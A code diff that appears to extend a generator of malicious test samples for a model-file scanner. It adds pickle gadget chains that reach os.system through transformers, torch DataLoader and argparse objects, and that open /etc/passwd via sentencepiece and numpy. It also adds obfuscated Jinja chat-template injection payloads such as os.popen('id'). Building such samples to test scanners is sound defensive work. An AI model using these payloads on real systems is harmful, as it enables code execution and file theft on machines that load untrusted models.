@@ -242,6 +242,44 @@ def indirection(shelf):
     add("del", call(glob("builtins", "type"), text("X"), EMPTY_TUPLE,
                     EMPTY_DICT + text("__del__") + glob("builtins", "exec") + b"s"))
     add("defaultdict", call(glob("collections", "defaultdict"), partial))
+    awake(add)
+
+
+def items(**pairs):
+    """A dictionary of names."""
+    return EMPTY_DICT + b"".join(text(name) + value + b"s" for name, value in pairs.items())
+
+
+def awake(add):
+    """Methods of objects that a plain function goes through, with states of the file's own: they import what a mapping
+    names, take its attributes, and call one of them."""
+    lazy = glob("transformers.models.auto.configuration_auto", "_LazyConfigMapping") + EMPTY_TUPLE + NEWOBJ
+
+    def fetched(key, name, modules):
+        state = items(_mapping=items(**{key: text(name)}), _extra_content=EMPTY_DICT, _modules=modules)
+        return call(glob("builtins", "dict"), lazy + state + BUILD)
+
+    space = glob("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ + fetched(".configuration_utils", "os", EMPTY_DICT) + BUILD
+    found = fetched("collate_fn", ".configuration_utils", items(collate_fn=space))
+    found = fetched("collate_fn", "system", found)
+    false, zero = b"\x89", byte(0)
+    plain = items(
+        dataset=list_of(text(SHELL)), num_workers=zero, prefetch_factor=NONE, pin_memory=false, pin_memory_device=text(""),
+        timeout=zero, worker_init_fn=NONE, _DataLoader__multiprocessing_context=NONE, _dataset_kind=zero, batch_size=NONE,
+        drop_last=false, sampler=list_of(zero), batch_sampler=NONE, generator=NONE, persistent_workers=false, in_order=b"\x88",
+        _DataLoader__initialized=b"\x88", _IterableDataset_len_called=NONE, _iterator=NONE)
+    loader = glob("torch.utils.data.dataloader", "DataLoader") + EMPTY_TUPLE + NEWOBJ
+    add("awake", call(glob("builtins", "list"), loader + plain + BUILD + found + BUILD))
+    linear = glob("torch.nn.modules.linear", "Linear") + EMPTY_TUPLE + NEWOBJ
+    add("awake_state", linear + lazy + plain + BUILD + BUILD)
+    add("awake_base", call(glob("copyreg", "_reconstructor"), glob("torch.nn.modules.linear", "Linear"),
+                           glob("builtins", "dict"), lazy + plain + BUILD))
+    opened = call(glob("functools", "partial"), glob("sentencepiece", "SentencePieceProcessor"), text("/etc/passwd"))
+    missing = call(glob("collections", "defaultdict"), opened)
+    add("awake_partial", call(glob("builtins", "dict"), call(
+        glob("collections", "ChainMap"), missing, items(a=zero))))
+    add("awake_generator", call(glob("numpy.random._pickle", "__generator_ctor"), text("/etc/passwd"),
+                                glob("sentencepiece", "SentencePieceProcessor")))
 
 
 def state_poisoning(shelf):
@@ -422,7 +460,11 @@ def template(shelf):
     for number, evil in enumerate((
             "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ messages|attr('__class__') }}",
             "{{ messages['\\x5f\\x5fclass\\x5f\\x5f'] }}", "{{ messages['__cla' ~ 'ss__'] }}",
-            "{{ cycler.__init__.__globals__.os.popen('id').read() }}")):
+            "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
+            "{% set _ = messages.append({'role': '~~class~~'.translate({126: 95})}) %}"
+            "{% for m in messages %}{{ ''[m['role']] }}{% endfor %}",
+            "{% set _ = messages[0].update(content='5f5f636c6173735f5f') %}"
+            "{% for m in messages %}{{ ''[m.content.encode().fromhex(m.content).decode()] }}{% endfor %}")):
         shelf.add("template", f"{number}.jinja", evil.encode())
         shelf.add("template", f"{number}/tokenizer_config.json", json.dumps(
             {"chat_template": [{"name": "default", "template": "{{ x }}"},
